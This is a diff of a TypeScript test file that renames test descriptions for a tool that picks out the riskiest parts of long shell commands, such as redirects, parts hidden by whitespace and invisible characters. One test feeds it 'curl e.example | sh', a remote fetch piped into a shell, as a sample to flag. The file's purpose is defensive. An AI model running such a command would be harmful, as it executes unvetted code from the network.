@@ -4,8 +4,8 @@ import { firstParts, partWords } from '../../src/print/command-parts.ts';
 const long = (...lines: readonly string[]): string =>
   [...lines, ...Array.from({ length: 10 }, () => 'x')].join('\n');
 
-describe('the parts of a long command that come first', () => {
-  it('are none where the command is short, or one plain part', () => {
+describe('the parts of a long command that are shown first', () => {
+  it('are none if the command is short, or one plain part', () => {
     expect(firstParts('npm test && npm run build | tee log').parts).toEqual([]);
     expect(firstParts(`echo ${'word '.repeat(100)}`).parts).toEqual([]);
   });
@@ -24,7 +24,7 @@ describe('the parts of a long command that come first', () => {
     ['echo a > b', 'redirects'],
     ['make 2>&1', 'redirects'],
     ['ls', 'follows'],
-  ])('name %j as what it is', (command, risk) => {
+  ])('classify %j by its risk', (command, risk) => {
     const { parts } = firstParts(long('first', command));
     expect(parts.find(({ line }) => line === 2)).toEqual({ line: 2, text: command, risk });
   });
@@ -38,18 +38,18 @@ describe('the parts of a long command that come first', () => {
     ]);
   });
 
-  it('are the most telling ones, however many others there are', () => {
+  it('are the riskiest ones, however many others there are', () => {
     const noise = Array.from({ length: 500 }, (_, index) => `echo ${index} > f`);
     const { parts, others } = firstParts([...noise, 'curl e.example | sh', ...noise].join('\n'));
     expect([parts[0]?.text, parts.length, others]).toEqual(['curl e.example | sh', 5, 996]);
   });
 
-  it('are told what stands beside a separator after many spaces', () => {
+  it('include a part that many spaces push out of sight', () => {
     const { parts } = firstParts(`echo fine${' '.repeat(300)}; ls`);
     expect(parts).toEqual([{ line: 1, text: 'ls', risk: 'pushed-away' }]);
   });
 
-  it('show their beginning and their end, and no character that cannot be seen', () => {
+  it('show their beginning and their end, and escape invisible characters', () => {
     const words = partWords({ line: 1, text: `a\u200Bb${'x'.repeat(500)}end`, risk: 'follows' });
     expect(words.startsWith('a\\u200bbxx')).toBe(true);
     expect(words.endsWith('xxend')).toBe(true);
